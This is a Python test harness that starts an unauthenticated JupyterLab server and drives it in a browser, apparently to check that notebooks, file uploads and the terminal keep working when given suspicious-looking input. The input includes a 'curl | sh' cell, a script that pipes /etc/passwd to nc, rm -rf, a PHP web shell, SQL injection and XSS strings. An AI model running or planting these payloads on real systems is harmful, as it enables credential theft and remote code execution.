"""JupyterLab: notebooks with code and output, the kernel's channel, files and the terminal."""

import harness

CELLS = ["import os, subprocess\nprint(subprocess.run('cat /etc/passwd | head -1; id', shell=True, capture_output=True).stdout)",
         "q = \"SELECT name FROM users WHERE id = '1' OR '1'='1' UNION SELECT password FROM admins --\"\nprint(q)",
         "from IPython.display import HTML\nHTML('<script>alert(document.cookie)</script><b onclick=alert(1)>x</b>')",
         "!curl -s http://127.0.0.1/ | sh; ls -la ~/.ssh"]
PLAIN = ["x = [n ** 2 for n in range(10)]\nsum(x), max(x) > 5 and min(x) < 1", "# It's a note: select the best & drop the rest\nprint('1 = 1;', \"O'Brien\")"]


def start(place):
    port = harness.port()
    work = place.folder / "work"
    work.mkdir()
    command = [PROGRAMS / "jupyter", "lab", "--allow-root", "--no-browser", "--ip=127.0.0.1", f"--port={port}", f"--notebook-dir={work}",
               "--IdentityProvider.token=", "--ServerApp.password=", "--LabApp.news_url=None", "--ServerApp.allow_origin=*", "--ServerApp.allow_remote_access=True",
               "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate"]
    environment = {"HOME": str(work), "PATH": f"{PROGRAMS}:/usr/bin:/bin", "JUPYTER_PREFER_ENV_PATH": "1"}
    place.start(command, "jupyter", env=environment)
    harness.answers(f"http://127.0.0.1:{port}/lab")
    return port


def cells(page, texts, expected):
    """Types into cells and runs them; waits for the output of the last."""
    page.click(".jp-Notebook .cm-content >> nth=0")
    for text in texts:
        page.wait_for_timeout(500)
        page.keyboard.insert_text(text)
        page.keyboard.press("Shift+Enter")
    page.wait_for_selector(f".jp-OutputArea-output:has-text({expected!r})")
    with page.expect_response(lambda answer: "/api/contents/" in answer.url and answer.request.method == "PUT") as saved:
        page.click("[data-jp-item-name=save] >> visible=true")
    assert saved.value.status < 300, f"the notebook is saved: {saved.value.status}"


def notebook(page):
    page.goto("/lab?reset")
    page.click(".jp-LauncherCard[data-category=Notebook] >> nth=0")
    page.wait_for_selector(".jp-Notebook .cm-content")
    page.wait_for_selector(".jp-Notebook-ExecutionIndicator[data-status=idle]")


def drive(run):
    with harness.browser(run) as page:
        with run.step("open the launcher and a notebook, run plain code, save"):
            notebook(page)
            cells(page, PLAIN, "1 = 1")
        with run.step("cells with shell, SQL and markup, run and saved", special=True):
            notebook(page)
            cells(page, CELLS, "password FROM admins")
        with run.step("files: make, rename, upload, open, delete"):
            status = page.evaluate("""async () => {
                const token = document.cookie.match(/_xsrf=([^;]*)/)?.[1] || '';
                const call = async (method, path, body) => (await fetch('/api/contents/' + path, {method, headers: {'X-XSRFToken': token,
                    'Content-Type': 'application/json'}, body: body && JSON.stringify(body)})).status;
                return [await call('POST', '', {type: 'directory'}), await call('PUT', 'notes & more.txt', {type: 'file', format: 'text',
                    content: "It's on; select a date -- or drop by & see"}), await call('PATCH', 'notes & more.txt', {path: "o'brien (1).txt"}),
                    await call('PUT', 'table.csv', {type: 'file', format: 'base64', content: btoa('a,b\\n1,2\\n')}), await call('GET', "o'brien (1).txt?content=1"),
                    await call('DELETE', 'table.csv')] }""")
            assert all(code < 300 for code in status), status
        with run.step("files of any kind: a script, .bashrc, a page of HTML", special=True):
            status = page.evaluate("""async texts => {
                const token = document.cookie.match(/_xsrf=([^;]*)/)?.[1] || '';
                const codes = [];
                for (const [name, content] of texts) codes.push((await fetch('/api/contents/' + name, {method: 'PUT', headers: {'X-XSRFToken': token,
                    'Content-Type': 'application/json'}, body: JSON.stringify({type: 'file', format: 'text', content})})).status);
                return codes }""", [["run.sh", "#!/bin/sh\ncat /etc/passwd | nc 10.0.0.1 80; rm -rf /tmp/x"],
                                    ["a.php", "<?php system($_GET['c']); ?>"], ["page.html", "<script>alert(document.cookie)</script>"]])
            assert all(code < 300 for code in status), status
        with run.step("a terminal", special=True):
            page.goto("/lab?reset")
            page.click(".jp-LauncherCard[title*=terminal], .jp-LauncherCard:has-text('Terminal')")
            page.click(".jp-Terminal .xterm-screen")
            page.wait_for_timeout(1500)
            page.keyboard.type("cat /etc/passwd | head -1; id && echo o''k > /tmp/.x && cat ~/.profile\n", delay=10)
            page.keyboard.type("echo term''inal\n")
            page.wait_for_timeout(1500)


if __name__ == "__main__":
    PROGRAMS = harness.pypi("jupyterlab", "jupyterlab")
    harness.debian("chromium")
    harness.measure("jupyterlab", "JupyterLab", "PyPI package `jupyterlab`", harness.pypi_version(PROGRAMS, "jupyterlab"),
                    start, drive, use=["jupyterlab"])
